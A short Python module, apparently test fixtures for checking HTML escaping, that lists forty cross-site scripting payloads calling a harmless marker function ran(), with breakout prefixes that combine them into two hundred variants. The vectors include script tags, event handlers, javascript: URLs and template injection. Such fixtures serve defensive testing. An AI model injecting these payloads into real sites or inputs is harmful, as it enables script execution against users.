"""Texts that run a script wherever a careless page lets them; all call ``ran()``."""

from __future__ import annotations

# Short, so that a name holds several of them.
FORTY = (
    "<script>ran()</script>", "<ScRiPt>ran()</sCrIpT>", "<img src onerror=ran()>",
    "<svg onload=ran()>", "<body onload=ran()>", "<input autofocus onfocus=ran()>",
    "<details open ontoggle=ran()>", "<a href=javascript:ran()>x</a>",
    "<iframe srcdoc='<script>top.ran()</script>'>", "<iframe src=javascript:top.ran()>",
    "<object data=javascript:ran()>", "<embed src=javascript:ran()>",
    "<form action=javascript:ran()><button autofocus>", "<b style=x:x onanimationend=ran()>",
    "<script src=data:,ran()></script>", "<link rel=stylesheet href=data:,*{}>",
    "<meta http-equiv=refresh content=0;url=javascript:ran()>", "<base href=//canary.invalid/>",
    "<math><a xlink:href=javascript:ran()>x</a>", "<svg><script>ran()</script></svg>",
    "<svg><animate onbegin=ran() attributeName=x>", "<video src onerror=ran()>",
    "<audio src onerror=ran()>", "<select autofocus onfocus=ran()>", "<marquee onstart=ran()>",
    "<img src=x:x onerror=ran()//", "<!--><img src onerror=ran()>-->",
    "<![CDATA[><img src onerror=ran()>]]>", '" onfocus=ran() autofocus x="',
    "' onfocus=ran() autofocus x='", "` onerror=ran() x=`", "javascript:ran()",
    "data:text/html,<script>ran()</script>", '";ran();//', "';ran();//",
    "</script><script>ran()</script>", "</title><svg onload=ran()>",
    "</textarea><img src onerror=ran()>", "${ran()}", "{{constructor.constructor('ran()')()}}",
)  # fmt: skip
# How a text may get out of where it stands before it does harm.
WAYS_OUT = ("{}", '">{}', "'/>{}", "</textarea></title></style>{}", "--]]>{}")
TWO_HUNDRED = tuple(way.replace("{}", text) for way in WAYS_OUT for text in FORTY)
